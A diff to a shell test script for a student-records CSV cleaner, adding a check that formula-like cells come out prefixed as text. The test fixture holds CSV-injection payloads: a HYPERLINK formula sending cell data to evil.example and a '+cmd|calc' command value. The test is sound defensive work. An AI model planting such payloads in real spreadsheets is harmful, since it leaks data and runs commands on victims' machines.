@@ -56,6 +56,26 @@ head -c 2000 examples/data/students.csv > "$tmp/truncated.csv"
 printf 'first_name,last_name,dob,postcode\nZo\xeb,O\x92Brien,2010-01-01,LS1 4AP\n' > "$tmp/cp1252.csv"
 "$job" "$tmp/cp1252.csv" --no-activities --out-dir "$tmp/cp" | head -1
 grep -q "Zoë,O’Brien" "$tmp/cp/students_cleaned.csv"
+# Formula-like cells (CSV injection) come out as text in every file the job writes.
+printf 'first_name,last_name,dob,postcode\n"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",Lee,2010-01-01,LS1 4AP\n@SUM(1),+cmd|calc,2010-01-02,LS1 4AP\nAnn,-Lee,2010-01-03,LS1 4AP\n' > "$tmp/formulas.csv"
+"$job" "$tmp/formulas.csv" --no-activities --out-dir "$tmp/formulas" > "$tmp/formulas.txt"
+python3 - "$tmp/formulas" "$tmp/formulas.txt" <<'PY'
+import csv, pathlib, re, sys
+out, summary = pathlib.Path(sys.argv[1]), open(sys.argv[2]).read()
+cells = [c for f in out.glob("*.csv") for row in csv.reader(open(f, encoding="utf-8")) for c in row]
+def number(c):
+    try:
+        float(c)
+        return True
+    except ValueError:
+        return False
+bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not number(c)]
+assert not bad, bad
+assert "'@SUM(1)" in cells and "'+cmd|calc" in cells and "'-Lee" in cells, cells
+n = int(re.search(r"formula-like cells written as text \(a leading '\): (\d+)", summary).group(1))
+assert n >= 3, n
+print(f"ok   formula cells: {n} written as text")
+PY
 # A reader that stops early (`| head -1`) closes the pipe: the job must end quietly with code 0,
 # never a panic (exit 101), every time.
 for i in 1 2 3 4 5 6 7 8 9 10; do
